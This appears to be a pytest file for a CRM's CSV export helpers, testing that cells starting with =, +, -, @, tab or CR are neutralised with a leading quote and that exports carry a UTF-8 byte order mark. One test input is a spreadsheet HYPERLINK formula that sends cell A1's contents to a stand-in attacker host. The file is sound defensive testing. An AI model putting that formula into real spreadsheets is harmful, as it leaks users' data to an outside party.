"""Cells safe from formula injection (OWASP's CSV injection advice)."""

from __future__ import annotations

import datetime
from decimal import Decimal

import pytest

from dealercrm.core.spreadsheets import csv_bytes_bom, neutral_cell, neutral_row


@pytest.mark.parametrize(
    "text",
    [
        '=HYPERLINK("http://evil.example/?"&A1,"点这里")',
        "=1+2",
        "+1+2",
        "-1+2",
        "@SUM(A1:A9)",
        "\t=1+2",
        "\r=1+2",
        "+86 138 0013 8000",
        "-",
        "=",
    ],
)
def test_text_that_a_spreadsheet_would_run_gets_a_leading_quote(text):
    # Given a text starting with = + - @ tab or CR, when neutralised, then it is shown as text.
    assert neutral_cell(text) == "'" + text


@pytest.mark.parametrize("text", ["-5", "+3.20", "-0.5", "-.5", "42"])
def test_text_that_is_only_a_plain_number_is_left_as_the_number_it_is(text):
    # Given a text that is nothing but a decimal number, then no quote is added: a spreadsheet
    # reads it as that number, and no formula can hide in digits.
    assert neutral_cell(text) == text


@pytest.mark.parametrize(
    "value",
    [
        "张三",
        "a=b",
        "13800138000",
        "",
        -5,
        3.5,
        Decimal("-1.2"),
        None,
        True,
        datetime.date(2024, 3, 5),
    ],
)
def test_other_text_and_values_pass_untouched(value):
    assert neutral_cell(value) == value


def test_a_row_is_neutralised_cell_by_cell():
    assert neutral_row(["=cmd", -1, "李四"]) == ["'=cmd", -1, "李四"]


def test_csv_bytes_start_with_the_utf8_byte_order_mark():
    data = csv_bytes_bom("姓名\r\n张三\r\n")
    assert data.startswith(b"\xef\xbb\xbf")
    assert data.decode("utf-8-sig") == "姓名\r\n张三\r\n"
